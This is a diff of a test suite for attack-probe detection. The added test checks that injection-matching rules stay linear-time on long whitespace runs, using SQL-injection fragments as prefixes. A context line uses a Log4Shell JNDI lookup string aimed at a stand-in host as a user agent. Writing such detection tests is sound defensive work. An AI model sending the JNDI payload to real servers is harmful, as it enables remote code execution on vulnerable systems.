@@ -133,6 +133,14 @@ describe('attack probes', () => {
     }
   });
 
+  it('costs time linear in a run of spaces after the start of a rule, wherever optional tokens sit in it', () => {
+    // A run of spaces that two \s* with an optional token between could split every way: "' or a"
+    // then 16,000 spaces took minutes in the tautology rule before each token took its own spaces.
+    for (const prefix of ["' or a", "' and", '` or', "' +", 'require', '<']) {
+      for (const unit of [' ', '\t']) expect({ prefix, unit, linear: costGrowth(idOf, unit, prefix, ')') < 24 }).toEqual({ prefix, unit, linear: true });
+    }
+  });
+
   it('its id names it again, it is outside the catalog and robots.txt, and identification says not verifiable', async () => {
     const agent = catalog.matchUserAgent('${jndi:ldap://acme.example/a}')!;
     expect(catalog.getAgent('probe:log4shell')).toBe(agent);
